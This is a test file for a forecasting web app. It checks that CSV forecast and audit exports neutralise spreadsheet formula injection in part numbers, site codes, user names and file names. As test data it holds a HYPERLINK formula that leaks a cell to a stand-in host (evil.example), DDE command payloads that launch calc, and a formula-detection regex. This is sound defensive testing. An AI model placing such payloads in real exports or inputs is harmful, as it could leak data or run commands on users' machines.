/**
 * Formula injection (issue 14, hole 3): part numbers, sites, user names and file names that a
 * spreadsheet would run come out of every CSV the product writes as text, and the job page still
 * finds the real part.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JobDto } from '../../server/contract/dto.js';
import { csvQuote } from '../../server/forecast/index.js';
import { setupAdmin, type Session } from '../helpers/auth.js';
import { bootServer, type TestServer } from '../helpers/server.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")';
const DDE = '=cmd|"/c calc"!A1';
const PARTS = [HYPERLINK, '+1-2', '@SUM(A1)', '-42', 'P-100'];
const SITES = [DDE, 'JKT'];
const FILE_NAME = "=cmd|' calc'!A0.csv"; // no slash: a file name loses everything up to the last one
/** A field a spreadsheet would run: it starts with a formula character once parsed. */
const FORMULA = /^[=+\-@\t\r]/;

function demand(): string {
  const lines = ['demand_qty,date,partnumber,site_code'];
  for (let d = 0; d < 120; d++) {
    const date = new Date(Date.UTC(2025, 0, 1 + d)).toISOString().slice(0, 10);
    PARTS.forEach((p, i) =>
      SITES.forEach((s, j) => lines.push(`${(d + i + j) % 4},${date},${csvQuote(p)},${csvQuote(s)}`)),
    );
  }
  return lines.join('\n') + '\n';
}

let s: TestServer;
let admin: Session;
beforeAll(async () => {
  s = await bootServer({ env: { AUTH: 'on' } });
  admin = await setupAdmin(s.url, s.setupUrl!);
});
afterAll(() => s.stop());

async function finished(id: string): Promise<JobDto> {
  for (const end = Date.now() + 60_000; Date.now() < end; await new Promise((r) => setTimeout(r, 100))) {
    const j = await admin.json<JobDto>('GET', `/api/jobs/${id}`);
    if (['COMPLETED', 'FAILED', 'CANCELLED'].includes(j.body.status)) return j.body;
  }
  throw new Error(`job ${id} did not finish`);
}

describe('formula injection', () => {
  it('the forecast CSV holds formula-like parts and sites as text; the chart finds the real part', async () => {
    const form = new FormData();
    form.append('file', new Blob([demand()]), FILE_NAME);
    form.append('config', JSON.stringify({ forecast_horizon: 7 }));
    const up = await admin.fetch('/api/jobs', { method: 'POST', body: form });
    expect(up.status).toBe(201);
    const job = await finished(((await up.json()) as JobDto).id);
    expect(job.status).toBe('COMPLETED');

    const text = await (await admin.fetch(`/api/jobs/${job.id}/download`)).text();
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(PARTS.length * SITES.length * 7);
    for (const r of rows) for (const v of [r.partnumber, r.site_code]) expect(v).not.toMatch(FORMULA);
    // Every raw line: a neutralised field is a quoted text that starts with the quote.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")"`);
    expect(text).toContain(`"'=cmd|""/c calc""!A1"`);
    for (const line of text.trimEnd().split('\n')) for (const f of line.split(',')) expect(f).not.toMatch(FORMULA);
    expect(new Set(rows.map((r) => r.partnumber))).toEqual(new Set(PARTS.map((p) => (p === 'P-100' ? p : `'${p}`))));

    const keys = await admin.json<{ keys: { partnumber: string; site_code: string }[] }>(
      'GET',
      `/api/jobs/${job.id}/series/keys?q=${encodeURIComponent('hyperlink')}`,
    );
    expect(keys.body.keys).toEqual(
      expect.arrayContaining([expect.objectContaining({ partnumber: HYPERLINK, site_code: DDE })]),
    );
    const q = `partnumber=${encodeURIComponent(HYPERLINK)}&site_code=${encodeURIComponent(DDE)}`;
    const one = await admin.json<{ history: unknown[]; forecast: unknown[] }>('GET', `/api/jobs/${job.id}/series?${q}`);
    expect(one.status).toBe(200);
    expect(one.body.forecast).toHaveLength(7);
    expect(one.body.history.length).toBeGreaterThan(100);
  });

  it(
    'the audit export is the filtered trail as CSV, with user names and details as text',
    { timeout: 60_000 },
    async () => {
      // A failed sign-in records the name it was given: any text, from anyone.
      const bad = await fetch(`${s.url}/api/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', origin: s.url },
        body: JSON.stringify({ username: HYPERLINK, password: 'nope' }),
      });
      expect(bad.status).toBe(401);
      const res = await admin.fetch('/api/audit.csv');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="?sparecast-audit-[\d-]+\.csv"?$/);
      const text = await res.text();
      const rows = parse(text, { columns: true }) as Record<string, string>[];
      const page = await admin.json<{ total: number }>('GET', '/api/audit');
      expect(rows).toHaveLength(page.body.total);
      for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(FORMULA);
      expect(rows.find((r) => r.action === 'auth.login_failed')?.username).toBe(`'${HYPERLINK}`);
      expect(rows.find((r) => r.action === 'job.upload')?.detail).toBe(`'${FILE_NAME}`);

      const uploads = parse(await (await admin.fetch('/api/audit.csv?action=job.')).text(), { columns: true });
      expect((uploads as { action: string }[]).map((r) => r.action)).toEqual(['job.upload']);
      expect((await admin.fetch('/api/audit.csv?user=' + 'x'.repeat(65))).status).toBe(400);

      // Longer than a page (500): every entry once, newest first.
      const entry = {
        user_id: null,
        username: '-bulk',
        action: 'auth.login_failed' as const,
        job_id: null,
        detail: null,
        ip: null,
      };
      for (let i = 0; i < 1100; i++) await s.auth!.audit(entry);
      const all = parse(await (await admin.fetch('/api/audit.csv')).text(), { columns: true }) as { id: string }[];
      const total = (await admin.json<{ total: number }>('GET', '/api/audit')).body.total;
      expect(all).toHaveLength(total);
      const ids = all.map((r) => Number(r.id));
      expect(ids).toEqual([...ids].sort((a, b) => b - a));
      expect(new Set(ids).size).toBe(ids.length);
      const bulk = parse(await (await admin.fetch('/api/audit.csv?user=-bulk')).text(), { columns: true });
      expect((bulk as { username: string }[]).map((r) => r.username)).toEqual(Array(1100).fill("'-bulk"));
      expect((await fetch(`${s.url}/api/audit.csv`)).status).toBe(401);
    },
  );
});
